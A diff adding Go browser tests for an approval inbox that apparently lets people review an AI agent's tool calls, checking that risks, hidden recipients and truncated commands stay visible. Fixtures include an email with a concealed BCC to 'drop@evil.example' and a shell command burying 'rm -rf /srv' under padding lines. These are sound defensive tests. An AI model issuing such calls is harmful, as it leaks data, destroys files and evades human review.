@@ -1,0 +1,140 @@
+package browser_test
+
+import (
+	"context"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/emulation"
+	"github.com/chromedp/chromedp"
+
+	"countersign/handlers/web/webtest"
+)
+
+// Where the system chooses the colours, a risk is told by an edge and not by a colour that is
+// taken away; and what has little time left says so in one word everywhere.
+func TestInABrowserForcedColoursShowEachRisk(t *testing.T) {
+	t.Parallel()
+	w := webtest.New(t)
+	w.ApplyPolicy(`{"rules":[{"name":"Harmless","tools":["Bash"],"effect":"require","risk":"low","timeout_minutes":5}]}`)
+	a := w.Ask()
+	p := openTab(w)
+	p.do("have the system choose the colours", chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
+		_, err := cdp.Call(ctx, target, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "forced-colors", Value: "active"}}})
+		return err
+	}))
+	p.signIn()
+	pill := `getComputedStyle(document.querySelector(".row-marks .pill"))`
+	if got := p.value(pill + `.borderTopColor + " " + ` + pill + `.paddingLeft`); got != p.value(`getComputedStyle(document.body).color + " " + 0.5 * parseFloat(getComputedStyle(document.documentElement).fontSize) + "px"`) {
+		t.Errorf("the edge of the pill: %s", got)
+	}
+	p.open(webtest.PageOf(a))
+	p.becomes(`document.readyState === "complete"`)
+	words := func(level, at string) string {
+		return p.value(`(() => { const e = document.querySelector("` + at + `"); e.dataset.level = "` + level + `"; return getComputedStyle(e, "::after").content; })()`)
+	}
+	for _, level := range []string{"amber", "red"} {
+		if got := words(level, ".deadline time"); got != `" · expires soon"` {
+			t.Errorf("%s on the page says %s", level, got)
+		}
+	}
+	p.open("/")
+	p.becomes(`document.readyState === "complete"`)
+	for _, level := range []string{"amber", "red"} {
+		if got := words(level, ".row-left time"); got != `" · expires soon"` {
+			t.Errorf("%s in the inbox says %s", level, got)
+		}
+	}
+}
+
+// Calls that differ in what no headline shows do not read as one call several times (I6).
+func TestAGroupOfDifferentInputsSaysSoI6(t *testing.T) {
+	t.Parallel()
+	long := strings.Repeat("a", 150)
+	w := webtest.New(t)
+	for _, middle := range []string{"x", "y", "z"} {
+		w.Ask(webtest.ToolCall("Bash", `{"command":"ls `+long+middle+long+`"}`))
+	}
+	if page := w.SignIn(webtest.OwnerEmail).Get("/").Body; !strings.Contains(page, "row-group") || !strings.Contains(page, "inputs differ") {
+		t.Error("three different commands read as one, three times")
+	}
+}
+
+// rowShows reports whether all of a text in the first row's headline is in sight.
+const rowShows = `((text) => {
+  const line = document.querySelector("#inbox .row-summary");
+  const walk = document.createTreeWalker(line, NodeFilter.SHOW_TEXT);
+  for (let node = walk.nextNode(); node; node = walk.nextNode()) {
+    const at = node.data.indexOf(text);
+    if (at < 0) continue;
+    const range = document.createRange();
+    range.setStart(node, at);
+    range.setEnd(node, at + text.length);
+    const box = node.parentElement.getBoundingClientRect();
+    return String([...range.getClientRects()].every((r) => r.left >= box.left - 1 && r.right <= box.right + 1));
+  }
+  return "false";
+})`
+
+// Who would get a message, and which rows a statement touches, is in sight in its row: a cut
+// in the middle leaves out no recipient (I13).
+func TestInABrowserARowShowsEveryRecipientThatItsHeadlineNamesI13(t *testing.T) {
+	t.Parallel()
+	w := webtest.New(t)
+	w.Ask(webtest.ToolCall("email.send", `{"to":"anna.schmidt@nordlicht-hosting.example","bcc":"drop@evil.example","subject":"Invoice 2026-118 for November","body":"Hello"}`))
+	p := openTab(w)
+	p.signIn()
+	for _, width := range []int64{1440, 1024, 390} {
+		p.do("a screen", chromedp.EmulateViewport(width, 900))
+		p.open("/")
+		if got := p.value(rowShows + `("Email anna")`); got != "true" {
+			t.Fatalf("at %d the beginning is in sight: %s", width, got)
+		}
+		if got := p.value(rowShows + `("bcc drop@evil.example")`); got != "true" {
+			t.Errorf("at %d the second recipient is in sight: %s", width, got)
+		}
+	}
+}
+
+// What is printed says where it leaves something out.
+func TestInABrowserAPrintedRequestSaysWhatItLeavesOutI13(t *testing.T) {
+	t.Parallel()
+	w := webtest.New(t)
+	w.ApplyPolicy(`{"rules":[{"name":"Shell","tools":["Bash"],"effect":"require","risk":"high"}]}`)
+	a := w.Ask(webtest.ToolCall("Bash", `{"command":"`+strings.Repeat(`echo step\n`, 89)+`rm -rf /srv"}`))
+	p := openTab(w)
+	p.signIn()
+	p.open(webtest.PageOf(a))
+	p.do("print", chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
+		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
+		return err
+	}))
+	whole := p.value(`String([...document.querySelectorAll("#block-1 pre")].some((one) => one.checkVisibility() && one.textContent.includes("rm -rf /srv")))`)
+	told := p.value(`String(/rest|more|left out|not shown/i.test(document.querySelector("#block-1").innerText))`)
+	if whole != "true" && told != "true" {
+		t.Error("the last lines of the command are not printed, and nothing says so")
+	}
+}
+
+// The line of the list's head stays as it is when its filters are opened.
+func TestInABrowserTheFiltersOpenWithoutMovingThePage(t *testing.T) {
+	t.Parallel()
+	w := webtest.New(t)
+	w.Asks(3)
+	p := openTab(w)
+	p.signIn()
+	p.do("a phone", chromedp.EmulateViewport(390, 900))
+	p.open("/")
+	top := func() int {
+		n, _ := strconv.ParseFloat(p.value(`String(document.querySelector("#inbox .row, #inbox .row-group").getBoundingClientRect().top)`), 64)
+		return int(n)
+	}
+	before := top()
+	p.value(`[...document.querySelectorAll("main summary")].find((one) => one.textContent.trim().startsWith("Filter")).click()`)
+	p.becomes(`[...document.querySelectorAll("main details[open] > summary")].some((one) => one.textContent.trim().startsWith("Filter"))`)
+	if after := top(); after != before {
+		t.Errorf("the list moves from %d to %d", before, after)
+	}
+}
